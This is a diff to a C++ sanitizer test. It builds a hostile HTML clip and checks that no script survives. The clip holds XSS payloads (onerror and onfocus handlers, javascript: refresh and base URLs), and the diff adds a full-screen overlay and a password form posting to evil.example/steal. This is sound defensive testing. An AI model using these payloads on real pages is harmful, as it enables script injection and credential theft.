@@ -300,7 +300,11 @@ TEST_F(ShippedPagesTest, HostileClipRunsNoScriptInABrowser) {
                          L"onfocus=\"document.title='ran: focus'\"></form>"
                          L"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"
                          L"<base href=\"javascript:alert(2)//\">"
-                         L"<style>p{}</style><img src=x onerror=document.title='ran: style'>"));
+                         L"<style>p{}</style><img src=x onerror=document.title='ran: style'>"
+                         L"<style>h1{display:none}</style><div id=cover style=\"position:"
+                         L"fixed;top:0;left:0;width:100%;height:100%\">cover</div>"
+                         L"<form action=\"https://evil.example/steal\" method=post>"
+                         L"<input type=password id=pw></form>"));
         insert.exec();
     }
     // HTML5 elements (svg, details) stay, so the HTML 4 checker of page() does not apply.
@@ -316,7 +320,8 @@ TEST_F(ShippedPagesTest, HostileClipRunsNoScriptInABrowser) {
     EXPECT_EQ(dom->find("ran: "), std::string::npos) << *dom;
     EXPECT_NE(dom->find("<title>Hostile"), std::string::npos) << *dom;
     for (const char* gone : {"javascript:", "vbscript:", "onerror", "onload", "ontoggle", "onfocus",
-                             "<iframe", "<object", "<embed", "<base", "refresh"})
+                             "<iframe", "<object", "<embed", "<base", "refresh", "h1{display:none}",
+                             "position:fixed", "/steal", "id=\"pw\""})
         EXPECT_EQ(dom->find(gone), std::string::npos) << gone << " in " << *dom;
 }
 
